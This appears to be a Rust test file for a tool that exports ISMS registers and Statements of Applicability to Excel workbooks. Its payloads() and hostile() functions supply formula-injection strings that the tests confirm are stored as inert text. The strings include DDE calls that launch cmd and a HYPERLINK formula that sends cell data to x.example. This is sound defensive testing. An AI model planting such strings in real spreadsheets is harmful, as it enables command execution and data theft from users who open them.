//! The workbook: it holds what the reports say, nothing in it is evaluated, nothing is cut, and its bytes depend on the book and the day only.
#![allow(clippy::disallowed_methods, reason = "this test hands files to another program")]

mod faults;

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read as _};
use std::path::Path;
use std::process::Command;
use std::sync::LazyLock;

use calamine::{Data, Range, Reader as _, Xlsx};
use ismsbook::book::{Book, Request};
use ismsbook::files::Files;
use ismsbook::pack::workbook::workbook;
use ismsbook::report::{self, Cell, Figure, Query, Table, print};
use ismsbook::text::Lang;
use serde_json::{Value, json};

/// The sample book of this repository.
static SAMPLE: LazyLock<Book> = LazyLock::new(|| Book::open(Path::new(env!("CARGO_MANIFEST_DIR")), &Request::default()));

fn made(book: &Book, lang: Lang) -> Vec<u8> {
    workbook(&book.visible(), lang).unwrap_or_else(|said| panic!("{said:#?}"))
}

/// A book of a few files.
fn compiled(files: &[(&str, String)]) -> Book {
    let config = ("book.toml".to_owned(), "[book]\nid = \"b\"\ntitle = \"b\"\n".to_owned());
    let files = files.iter().map(|(path, text)| ((*path).to_owned(), text.clone()));
    Book::compile(Files::from_texts(files.chain([config])), Vec::new(), "b", &Request::default())
}

/// The sheets in their order.
fn opened(bytes: &[u8]) -> Vec<(String, Range<Data>)> {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).expect("the workbook can be opened");
    book.worksheets()
}

/// The files inside.
fn parts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook is a zip archive");
    let mut parts = BTreeMap::new();
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("its entries can be read");
        let mut text = String::new();
        let name = part.name().expect("its entries have names").into_owned();
        part.read_to_string(&mut text).expect("its entries are XML");
        parts.insert(name, text);
    }
    parts
}

/// Every report and register, and the Statement of Applicability of every service.
fn every_table(book: &Book) -> Vec<Table> {
    let table = |name: &str, query: &Query| book.report(name, query).expect("the report has a name that is known");
    let mut tables = Vec::new();
    for name in report::names() {
        tables.push(table(name, &Query::default()));
        if name == "soa" {
            let services = book.isms.services.iter().map(|service| service.id.0.clone());
            tables.extend(services.map(|id| table(name, &Query::service(&id))));
        }
    }
    tables
}

/// The row of the heads, from 0: below title, book, facts and the way back, and below what is drawn.
fn head_of(table: &Table) -> usize {
    let drawn: usize = table.figures.iter().map(|Figure::Matrix(matrix)| matrix.cells.len() + 3).sum();
    4 + if drawn > 0 { drawn + 2 } else { 0 }
}

/// The columns that have a sheet's column: the first, and those in which the JSON has any value.
fn columns_of(table: &Table, json: &Value) -> Vec<usize> {
    let rows = json["rows"].as_array().expect("a report has rows");
    let blank = |value: &Value| value.is_null() || [json!(""), json!([]), json!({})].contains(value);
    (0..table.columns.len())
        .filter(|at| *at == 0 || rows.iter().any(|row| !blank(&row[table.columns[*at].key.as_ref()])))
        .collect()
}

fn at(sheet: &Range<Data>, row: usize, column: usize) -> Value {
    held(sheet.get_value((u32::try_from(row).expect("few rows"), u32::try_from(column).expect("few columns"))))
}

/// What a spreadsheet program has to show for a value of the JSON; words are shown by their names.
fn shown(value: &Value, cell: &Cell, lang: Lang) -> Value {
    let joined = |with: &str| {
        json!(
            value
                .as_array()
                .map(|all| all.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(with))
        )
    };
    match cell {
        Cell::Word(word, label) => {
            assert_eq!(*value, json!(word));
            json!(label.get(lang))
        }
        Cell::Words(words) => {
            assert_eq!(*value, json!(words.iter().map(|(word, _)| word).collect::<Vec<_>>()));
            json!(words.iter().map(|(_, label)| label.get(lang)).collect::<Vec<_>>().join(", "))
        }
        Cell::Counts(counts) => {
            let each = counts.iter().map(|(key, label, count)| {
                assert_eq!(value[key], json!(count));
                format!("{} {count}", label.get(lang))
            });
            json!(each.collect::<Vec<_>>().join(", "))
        }
        Cell::Texts(_) => joined(" / "),
        Cell::Ids(_) | Cell::Rules(_) => joined(", "),
        Cell::Level { .. } => value["value"].clone(),
        Cell::Empty => json!(""),
        _ => value.clone(),
    }
}

/// What a cell of a sheet holds, as JSON; with days as in the JSON of reports.
fn held(cell: Option<&Data>) -> Value {
    match cell {
        None | Some(Data::Empty) => json!(""),
        Some(Data::String(text)) => json!(text),
        Some(Data::Float(number)) => json!(number),
        Some(Data::Int(number)) => json!(number),
        Some(Data::DateTime(day)) => {
            let (year, month, day, ..) = day.to_ymd_hms_milli();
            json!(format!("{year:04}-{month:02}-{day:02}"))
        }
        other => panic!("{other:?} stands in the workbook"),
    }
}

fn equal(one: &Value, other: &Value) -> bool {
    match (one.as_f64(), other.as_f64()) {
        (Some(one), Some(other)) => (one - other).abs() < 1e-9,
        _ => one == other,
    }
}

/// Holds every sheet against the JSON of its report: title, heads, every cell of every row, and the totals.
fn same_as_json(book: &Book, sheets: &[(String, Range<Data>)], lang: Lang) -> usize {
    let tables: Vec<_> = every_table(book).into_iter().filter(|table| !table.rows.is_empty()).collect();
    assert_eq!(
        sheets.len(),
        tables.len() + 2,
        "a sheet for each table, the contents and the definitions"
    );
    let mut cells = 0;
    let mut wrong = Vec::new();
    for (table, (name, sheet)) in tables.iter().zip(&sheets[1..]) {
        let json = print::json(table, lang);
        let head = head_of(table);
        assert_eq!(at(sheet, 0, 0), json["title"], "{name}");
        for (column, spec) in columns_of(table, &json).into_iter().enumerate() {
            let key = table.columns[spec].key.as_ref();
            assert_eq!(at(sheet, head, column), json["columns"][spec]["label"], "{name}");
            for (number, row) in table.rows.iter().enumerate() {
                let wanted = shown(&json["rows"][number][key], &row.cells[spec], lang);
                let found = at(sheet, head + 1 + number, column);
                if !equal(&wanted, &found) {
                    wrong.push(format!("{name} {} {key}: {found} instead of {wanted}", row.id));
                }
                cells += 1;
            }
        }
        let after = head + 1 + table.rows.len();
        assert_eq!(at(sheet, after, 0), json!(""), "{name} has no more rows than its table");
        for (number, (key, cell)) in table.totals.iter().enumerate() {
            let wanted = shown(&json["totals"][key.as_ref()], cell, lang);
            let found = at(sheet, after + 2 + number, 1);
            if !equal(&wanted, &found) {
                wrong.push(format!("{name}, total {key}: {found} instead of {wanted}"));
            }
        }
    }
    faults::none(&wrong);
    cells
}

#[test]
fn every_cell_is_that_of_the_report() {
    for lang in Lang::ALL {
        let cells = same_as_json(&SAMPLE, &opened(&made(&SAMPLE, lang)), lang);
        assert!(cells > 5_000, "{cells}");
    }
}

/// What `LibreOffice` makes of workbooks: each opened and written again, with formulas as it has understood them.
///
/// A workbook that it has to repair it refuses, having nobody to ask.
fn through_libreoffice(books: &[(&str, Vec<u8>)]) -> Vec<Vec<u8>> {
    let folder = tempfile::tempdir().expect("there is room for files");
    let (before, after) = (folder.path().join("before"), folder.path().join("after"));
    std::fs::create_dir_all(&before).expect("folders can be made");
    let mut command = Command::new("soffice");
    // A profile of its own: two runs with one profile stop each other.
    let profile = folder.path().join("profile");
    command.arg(format!("-env:UserInstallation=file://{}", profile.display()));
    command.args([
        "--headless",
        "--norestore",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
    ]);
    command.arg(&after);
    for (name, bytes) in books {
        let path = before.join(format!("{name}.xlsx"));
        std::fs::write(&path, bytes).expect("files can be written");
        command.arg(path);
    }
    let output = command
        .output()
        .expect("`soffice` can be run; tests/run installs it (on Debian: libreoffice-calc-nogui)");
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(output.status.success(), "{said}");
    for bad in ["rror", "repair", "corrupt", "damaged"] {
        assert!(!said.contains(bad), "{said}");
    }
    let read =
        |(name, _): &(&str, Vec<u8>)| std::fs::read(after.join(format!("{name}.xlsx"))).unwrap_or_else(|why| panic!("{why}: {said}"));
    books.iter().map(read).collect()
}

#[test]
fn libreoffice_reads_every_cell_as_the_report_has_it() {
    let hostile = hostile();
    let (ja, en) = (made(&SAMPLE, Lang::Ja), made(&SAMPLE, Lang::En));
    let back = through_libreoffice(&[("ja", ja), ("en", en), ("hostile", made(&hostile, Lang::Ja))]);
    let [ja, en, of_hostile] = &back[..] else {
        panic!("three went in, {} came back", back.len())
    };
    for (lang, bytes) in [(Lang::Ja, ja), (Lang::En, en)] {
        let cells = same_as_json(&SAMPLE, &opened(bytes), lang);
        assert!(cells > 5_000, "{cells}");
        no_formula(bytes);
    }
    no_formula(of_hostile);
    let kept = strings(of_hostile, "外部・内部の課題");
    let lost: Vec<_> = payloads()
        .into_iter()
        .map(|text| text.replace('\r', "\n"))
        .filter(|text| !kept.contains(text))
        .collect();
    assert!(lost.is_empty(), "each comes back as it was written: {lost:#?}");
}

#[test]
fn statements_of_applicability_come_for_the_whole_and_then_for_each_service() {
    let titles: Vec<_> = opened(&made(&SAMPLE, Lang::Ja))
        .iter()
        .map(|(name, _)| name.clone())
        .filter(|name| name.starts_with("適用宣言書 "))
        .collect();
    let services = SAMPLE.isms.services.iter().map(|service| service.name.text().ja.to_string());
    let wanted: Vec<_> = std::iter::once("ISMS全体".to_owned())
        .chain(services)
        .map(|name| format!("適用宣言書 {name}"))
        .collect();
    assert_eq!(titles, wanted);
}

/// The values of an attribute or element between `before` and `after`.
fn between<'a>(text: &'a str, before: &'a str, after: &'a str) -> impl Iterator<Item = &'a str> {
    text.split(before).skip(1).filter_map(move |rest| rest.split(after).next())
}

#[test]
fn links_lead_to_rows_of_sheets_that_are_there() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let sheets: BTreeMap<_, _> = opened(&bytes).into_iter().collect();
    let mut links = 0;
    for (part, text) in parts(&bytes) {
        if !part.starts_with("xl/worksheets/sheet") {
            continue;
        }
        for location in between(&text, "location=\"", "\"") {
            let (sheet, cell) = location.rsplit_once('!').expect("a link names a cell");
            let sheet = sheets.get(sheet.trim_matches('\'')).unwrap_or_else(|| panic!("{part}: {location}"));
            let row: u32 = cell.trim_start_matches('A').parse().expect("links lead to the first column");
            assert!(row >= 1 && row - 1 <= sheet.end().expect("sheets are not empty").0, "{location}");
            links += 1;
        }
        assert!(!text.contains("<hyperlink r:id"), "{part}: a link leads out of the workbook");
    }
    assert!(links > 1_000, "{links}");
}

/// The cell of an id leads to the row that this id begins in its register.
#[test]
fn an_id_leads_to_its_row() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let sheets = opened(&bytes);
    let parts = parts(&bytes);
    let by_name: BTreeMap<_, _> = sheets.iter().map(|(name, sheet)| (name.as_str(), sheet)).collect();
    let (number, (_, plan)) = sheets
        .iter()
        .enumerate()
        .find(|(_, (name, _))| name == "リスク対応計画")
        .expect("the sample has a treatment plan");
    let text = &parts[&format!("xl/worksheets/sheet{}.xml", number + 1)];
    let mut seen = 0;
    for link in between(text, "<hyperlink ", "/>") {
        let cell = between(link, "ref=\"", "\"").next().expect("a link stands in a cell");
        let location = between(link, "location=\"", "\"").next().expect("a link leads somewhere");
        let Some(row) = cell
            .strip_prefix('A')
            .and_then(|row| row.parse::<u32>().ok())
            .filter(|row| *row > 5)
        else {
            continue;
        };
        let (sheet, target) = location.rsplit_once("!A").expect("a link leads to the first column");
        let target: u32 = target.parse().expect("and to a row");
        let id = held(plan.get_value((row - 1, 0)));
        assert_eq!(held(by_name[sheet.trim_matches('\'')].get_value((target - 1, 0))), id, "{link}");
        assert_eq!(sheet.trim_matches('\''), "リスク登録簿");
        seen += 1;
    }
    assert!(seen > 0);
}

#[test]
fn sheets_are_set_up_for_screen_and_paper() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let parts = parts(&bytes);
    let sheets: Vec<_> = parts.iter().filter(|(name, _)| name.starts_with("xl/worksheets/sheet")).collect();
    for (name, text) in &sheets {
        for wanted in [
            "state=\"frozen\"",
            "<autoFilter ",
            " orientation=\"",
            " paperSize=\"",
            "fitToHeight=\"0\"",
            "&amp;P / &amp;N",
            "<cols>",
        ] {
            assert!(text.contains(wanted), "{name} lacks {wanted}");
        }
    }
    let titles = between(&parts["xl/workbook.xml"], "_xlnm.Print_Titles", "</definedName>").count();
    assert_eq!(titles, sheets.len(), "every sheet repeats its head");
    let styles = &parts["xl/styles.xml"];
    for level in &SAMPLE.config.risk.levels {
        let shown = format!("0&quot; {}&quot;", level.name.get(Lang::Ja));
        assert!(styles.contains(&shown), "values are shown with the name of their level: {shown}");
    }
    assert!(styles.contains("yyyy-mm-dd") && styles.contains("<name val=\"游ゴシック\"/>"));
    let lists: String = sheets
        .iter()
        .flat_map(|(_, text)| between(text, "<formula1>", "</formula1>"))
        .collect();
    for wanted in [
        "採用,除外,立場外,未判定",
        "実施,一部実施,計画,代替",
        "実施,一部実施,計画,代替,除外,立場外,未判定",
        "起案中,施行中,廃止",
        "実施済み,期限前,期限超過",
        "有効,期限超過,失効,要求中,記録なし",
        "公開,顧客,社内,関係者外秘",
        "低減,保有,回避,共有",
    ] {
        assert!(lists.contains(wanted), "{wanted} in {lists}");
    }
}

/// The sheet of this name, as it is written.
fn xml_of(bytes: &[u8], sheet: &str) -> String {
    let number = opened(bytes)
        .iter()
        .position(|(name, _)| name == sheet)
        .expect("the workbook has the sheet");
    parts(bytes)[&format!("xl/worksheets/sheet{}.xml", number + 1)].clone()
}

#[test]
fn sheets_say_of_which_book_document_and_day_they_are() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let day = SAMPLE.today.0.to_string();
    for (name, sheet) in opened(&bytes) {
        let head: Vec<_> = (0..4).map(|row| held(sheet.get_value((row, 0)))).collect();
        let book = head[1].as_str().expect("the book stands below the title");
        for wanted in ["みなとクラウド ISMS", "みなとクラウド株式会社", &day] {
            assert!(book.contains(wanted), "{name}: {book}");
        }
        assert_eq!(head[3] == json!("← 目次"), name != "目次", "{name} has a way back");
    }
    let statement = "適用宣言書 みなとドックス";
    let soa = SAMPLE.isms.soa.get("soa:minato-docs").expect("the sample has it");
    let (number, version) = (soa.number.as_deref().expect("numbered"), soa.version.as_deref().expect("versioned"));
    let (_, sheet) = opened(&bytes)
        .into_iter()
        .find(|(name, _)| name == statement)
        .expect("it has a sheet");
    let facts = at(&sheet, 2, 0);
    for wanted in [number, version, "2022"] {
        assert!(facts.as_str().is_some_and(|facts| facts.contains(wanted)), "{facts}");
    }
    let xml = xml_of(&bytes, statement);
    let header = between(&xml, "<oddHeader>", "</oddHeader>").next().expect("pages have a head");
    assert_eq!(
        header,
        format!(
            "&amp;L{}&amp;R{number}　第{version}版　社内",
            at(&sheet, 0, 0).as_str().expect("a title")
        )
    );
    let footer = between(&xml, "<oddFooter>", "</oddFooter>").next().expect("pages have a foot");
    assert_eq!(footer, format!("&amp;Lみなとクラウド ISMS&amp;C基準日 {day}&amp;R&amp;P / &amp;N"));
    // What an author writes into a title is no command of the margin.
    let xml = xml_of(&made(&hostile(), Lang::Ja), "目次");
    let footer = between(&xml, "<oddFooter>", "</oddFooter>").next().expect("pages have a foot");
    assert!(footer.starts_with("&amp;L=1+1 &amp;&amp;P &amp;&amp; [Page]&amp;C"), "{footer}");
}

#[test]
fn risks_stand_in_the_cells_of_their_matrix() {
    let table = SAMPLE.report("risk-matrix", &Query::default()).expect("there is such a report");
    let json = print::json(&table, Lang::Ja);
    let bytes = made(&SAMPLE, Lang::Ja);
    let (_, sheet) = opened(&bytes)
        .into_iter()
        .find(|(name, _)| name == "リスクマトリクス")
        .expect("it has a sheet");
    let (likelihood, impact) = (SAMPLE.config.risk.likelihood.len(), SAMPLE.config.risk.impact.len());
    let mut risks = 0;
    for row in json["rows"].as_array().expect("a report has rows") {
        let stages = ["inherent", "current", "residual"];
        let stage = stages.iter().position(|stage| row["stage"] == *stage).expect("one of the three");
        let mark = |key: &str| usize::try_from(row[key].as_u64().expect("a mark")).expect("a small one");
        let top = 4 + 2 + stage * (likelihood + 3);
        let cell = at(&sheet, top + 2 + likelihood - mark("likelihood"), mark("impact"));
        let cell = cell.as_str().expect("the cells of a matrix are texts");
        let level = format!("{} {}", row["value"]["value"], row["value"]["level"].as_str().expect("a name"));
        let ids: Vec<_> = row["risks"].as_array().expect("ids").iter().filter_map(Value::as_str).collect();
        let wanted = match ids.len() {
            0 => level,
            count => format!("{level}\n{count}件: {}", ids.join(", ")),
        };
        assert_eq!(cell, wanted, "{row}");
        risks += ids.len();
    }
    assert_eq!(json["rows"].as_array().map(Vec::len), Some(3 * likelihood * impact));
    assert!(risks >= SAMPLE.isms.risks.len() * 2, "{risks}");
}

#[test]
fn states_have_shape_and_colour_and_cells_hold_the_word_alone() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let styles = &parts(&bytes)["xl/styles.xml"];
    let looks: Vec<_> = between(styles, "<dxf>", "</dxf>").collect();
    let look = |word: &str| {
        let xml = xml_of(&bytes, "適用宣言書 ISMS全体");
        let rule = between(&xml, "<cfRule ", "</cfRule>")
            .find(|rule| rule.contains(&format!("<formula>\"{word}\"</formula>")))
            .unwrap_or_else(|| panic!("`{word}` has a look"))
            .to_owned();
        let number: usize = between(&rule, "dxfId=\"", "\"")
            .next()
            .and_then(|id| id.parse().ok())
            .expect("it names one");
        looks[number]
    };
    for (word, shape) in [
        ("実施", "●"),
        ("一部実施", "◐"),
        ("計画", "○"),
        ("代替", "◇"),
        ("採用", "●"),
        ("除外", "－"),
        ("未判定", "!"),
    ] {
        let look = look(word);
        assert!(
            look.contains(&format!("&quot;{shape} &quot;@")) && look.contains("<color rgb="),
            "{word}: {look}"
        );
    }
    assert!(
        !opened(&bytes)
            .iter()
            .any(|(_, sheet)| sheet.cells().any(|(.., cell)| held(Some(cell)) == json!("● 実施")))
    );
}

#[test]
fn a_day_that_is_past_is_marked() {
    let book = Book::open(
        Path::new(env!("CARGO_MANIFEST_DIR")),
        &Request {
            today: Some("2031-01-01".parse().expect("a day")),
            ..Request::default()
        },
    );
    let table = book.report("soa", &Query::default()).expect("there is such a report");
    let late = table
        .rows
        .iter()
        .flat_map(|row| &row.cells)
        .filter(|cell| matches!(cell, Cell::Date(_, true)));
    assert!(late.count() > 0, "years later something is overdue");
    let bytes = made(&book, Lang::Ja);
    let styles = &parts(&bytes)["xl/styles.xml"];
    assert!(styles.contains("&quot;! &quot;yyyy-mm-dd"), "{styles}");
    same_as_json(&book, &opened(&bytes), Lang::Ja);
}

/// `LibreOffice` shows a link in one line and cuts off the rest; every other text wraps, in a row that is high enough.
#[test]
fn nothing_is_hidden_by_a_narrow_column() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let mut links = 0;
    for (name, sheet) in opened(&bytes) {
        let xml = xml_of(&bytes, &name);
        let widths: Vec<f64> = between(&xml, "<col ", "/>")
            .flat_map(|column| {
                let number = |key: &str| between(column, key, "\"").next().expect("an attribute").to_owned();
                let of = |key: &str| number(key).parse::<usize>().expect("a number");
                let width: f64 = number(" width=\"").parse().expect("a number");
                vec![width; of("max=\"") + 1 - of("min=\"")]
            })
            .collect();
        for link in between(&xml, "<hyperlink ", "/>") {
            let cell = between(link, "ref=\"", "\"").next().expect("a link stands in a cell");
            let (column, row) = cell.split_at(cell.find(|c: char| c.is_ascii_digit()).expect("a row"));
            let row: u32 = row.parse().expect("a row");
            let column = column.bytes().fold(0, |sum, letter| sum * 26 + u32::from(letter - b'A') + 1) - 1;
            let words = held(sheet.get_value((row - 1, column)));
            let Some(words) = words.as_str().filter(|words| !words.starts_with('←')) else {
                continue;
            };
            let width = words.chars().map(|c| if c.is_ascii() { 1.0 } else { 2.0 }).sum::<f64>();
            let room = widths[usize::try_from(column).expect("few columns")];
            assert!(!words.contains('\n') && width <= room + 1.0, "{name} {cell}: {words} in {room}");
            links += 1;
        }
        let rows = between(&xml, "<row ", ">").filter(|row| row.contains("customHeight=\"1\"")).count();
        assert!(
            rows + 20 > usize::try_from(sheet.end().expect("sheets are not empty").0).expect("few rows"),
            "{name}: {rows}"
        );
    }
    assert!(links > 1_000, "{links}");
}

#[test]
fn the_same_book_gives_the_same_bytes() {
    let first = made(&SAMPLE, Lang::Ja);
    let again = Book::open(Path::new(env!("CARGO_MANIFEST_DIR")), &Request::default());
    assert!(first == made(&again, Lang::Ja));
    let core = &parts(&first)["docProps/core.xml"];
    let day = SAMPLE.today.0.to_string();
    let times: BTreeSet<_> = between(core, "W3CDTF\">", "<").collect();
    assert_eq!(times, BTreeSet::from([format!("{day}T00:00:00Z").as_str()]));
    let mut archive = zip::ZipArchive::new(Cursor::new(&first)).expect("a workbook is a zip archive");
    for at in 0..archive.len() {
        let time = archive.by_index(at).expect("its entries can be read").last_modified();
        assert_eq!(time.map(|time| time.year()), Some(1980), "entries have no time of their own");
    }
}

/// Texts that a spreadsheet might take for a formula.
fn payloads() -> Vec<String> {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u{3000}=",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "\"=",
        "=+",
        "-+",
        "@=",
        "{=",
        ";=",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://x.example/?q=\"&A1,\"ok\")",
        "WEBSERVICE(\"http://x.example/\")",
        "IMPORTXML(\"http://x.example/\",\"//a\")",
        "SUM(A1:A9)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "INDIRECT(\"A1\")",
        "2+5+cmd|'/C notepad'!'A1'",
        "A1",
        "5",
        "\nline",
        "_x000D_=1",
        "</t></is><f>1</f>",
        "<f>1+1</f>",
        "]]>",
        "葛\u{e0100}😀👨\u{200d}👩\u{200d}👧",
    ];
    starts
        .iter()
        .flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")))
        .collect()
}

/// A book that has the payloads wherever a text goes to a sheet: records, names of services, its own title, the scales of risk.
fn hostile() -> Book {
    let records: Vec<_> = payloads()
        .iter()
        .enumerate()
        .map(|(at, text)| format!("  - {{ id: C-{at:03}, title: {text}, kind: internal, relevant: true, effect: {text}, topic: {text}, reviewed: 2026-01-05 }}\n", text = json!(text)))
        .collect();
    let service = format!(
        "services:\n  - {{ id: s, name: {}, model: SaaS, kind: cloud-service, parties: [csp], infrastructure: own }}\n",
        json!("=1+1'![x]:*?/\\")
    );
    let config = "[book]\nid = \"b\"\ntitle = \"=1+1 &P &[Page]\"\norganization = \"@SUM(A1)\"\n\
        [risk]\nlikelihood = [\"=1+1\", \"+2\"]\nimpact = [\"@x\", \"-1+2\"]\nvalue = \"product\"\nacceptable = 1\n\
        levels = [{ up_to = 2, name = \"=A1\" }, { up_to = 4, name = \"\\\"&A1\" }]\n";
    let book = Book::compile(
        Files::from_texts([
            ("book.toml".to_owned(), config.to_owned()),
            ("content/a.yaml".to_owned(), format!("context:\n{}", records.concat())),
            ("content/b.yaml".to_owned(), service),
        ]),
        Vec::new(),
        "b",
        &Request::default(),
    );
    assert_eq!(
        (book.isms.context.len(), book.isms.services.len(), book.config.risk.levels.len()),
        (payloads().len(), 1, 2),
        "{:#?}",
        book.diagnostics
    );
    book
}

fn no_formula(bytes: &[u8]) {
    for (name, text) in parts(bytes) {
        assert!(!text.contains("<f>") && !text.contains("<f "), "{name} holds a formula");
    }
    let mut reader = Xlsx::new(Cursor::new(bytes.to_vec())).expect("the workbook can be opened");
    for name in reader.sheet_names() {
        let formulas = reader.worksheet_formula(&name).expect("the sheet can be read");
        assert!(formulas.used_cells().next().is_none(), "{name}");
    }
}

/// The texts of a sheet.
fn strings(bytes: &[u8], sheet: &str) -> BTreeSet<String> {
    let sheets = opened(bytes);
    let (_, sheet) = sheets.iter().find(|(name, _)| name == sheet).expect("the records have a sheet");
    let texts = sheet.cells().filter_map(|(.., cell)| match cell {
        Data::String(text) => Some(text.clone()),
        _ => None,
    });
    texts.collect()
}

#[test]
fn no_text_becomes_a_formula() {
    assert!(payloads().len() >= 300, "{}", payloads().len());
    let bytes = made(&hostile(), Lang::Ja);
    no_formula(&bytes);
    let kept = strings(&bytes, "外部・内部の課題");
    let lost: Vec<_> = payloads().into_iter().filter(|text| !kept.contains(text)).collect();
    assert!(lost.is_empty(), "each comes back as it was written: {lost:#?}");
}

#[test]
fn text_that_fits_no_cell_is_said_and_not_cut() {
    let of = |length: usize| {
        let text = "あ".repeat(length);
        let record =
            format!("context:\n  - {{ id: C-1, title: t, kind: internal, relevant: true, effect: {text}, reviewed: 2026-01-05 }}\n");
        compiled(&[("content/a.yaml", record)])
    };
    let fits = of(32_767);
    let sheets = opened(&made(&fits, Lang::Ja));
    let longest = sheets
        .iter()
        .flat_map(|(_, sheet)| sheet.cells().map(|(.., cell)| held(Some(cell))))
        .filter_map(|value| value.as_str().map(|text| text.chars().count()))
        .max();
    assert_eq!(longest, Some(32_767));
    let book = of(32_768);
    let said = workbook(&book.visible(), Lang::Ja).expect_err("the text does not fit");
    let [one] = &said[..] else { panic!("{said:#?}") };
    assert_eq!(one.code, "cell-too-long");
    assert!(one.span.is_some(), "it says where the record stands");
    for wanted in ["C-1", "32768", "課題"] {
        assert!(one.message.ja.contains(wanted), "{}", one.message.ja);
    }
}

/// A row of a Statement of Applicability has no record of its own name: the place is that of the decision.
#[test]
fn a_decision_that_fits_no_cell_is_named_with_its_file() {
    let long = "あ".repeat(32_768);
    let soa = format!("soa:\n  - number: D-1\n    decisions:\n      - {{ control: A.5.1, status: implemented, how: {long} }}\n");
    let book = compiled(&[("content/soa.yaml", soa)]);
    let Err(said) = workbook(&book.visible(), Lang::Ja) else {
        panic!("the text does not fit: {:#?}", book.diagnostics)
    };
    let file = book.files.find("content/soa.yaml").expect("it was given").0;
    let places: BTreeSet<_> = said.iter().map(|one| (one.code, one.span.file)).collect();
    assert_eq!(places, BTreeSet::from([("cell-too-long", file)]), "{said:#?}");
}

/// Names of services that Excel would not take, or takes for one.
#[test]
fn sheets_have_names_that_excel_takes() {
    let names = [
        "a/b:c*d?[e]\\f",
        "A B C D E F",
        "'quoted'",
        "長い名前のクラウドサービスで三十一文字を超えるものその一",
        "長い名前のクラウドサービスで三十一文字を超えるものその二",
        "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀",
    ];
    let services: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(at, name)| {
            format!(
                "  - {{ id: s{at}, name: {}, model: SaaS, kind: cloud-service, parties: [csp], infrastructure: own }}\n",
                json!(name)
            )
        })
        .collect();
    let book = compiled(&[("content/a.yaml", format!("services:\n{}", services.concat()))]);
    assert_eq!(book.isms.services.len(), names.len(), "{:#?}", book.diagnostics);
    for lang in Lang::ALL {
        let sheets = opened(&made(&book, lang));
        let statements = sheets
            .iter()
            .filter(|(name, _)| name.starts_with("適用宣言書 ") || name.starts_with("SoA "));
        let names_of_sheets: Vec<_> = sheets.iter().map(|(name, _)| name).collect();
        assert!(
            statements.count() >= names.len(),
            "each service has its statement: {names_of_sheets:?}"
        );
        let lower: BTreeSet<_> = sheets.iter().map(|(name, _)| name.to_lowercase()).collect();
        assert_eq!(lower.len(), sheets.len());
        assert!(sheets.len() > names.len());
        for (name, _) in &sheets {
            assert!(!name.is_empty() && name.encode_utf16().count() <= 31, "{name}");
            assert!(!name.contains(['[', ']', ':', '*', '?', '/', '\\', '\'']), "{name}");
        }
    }
}
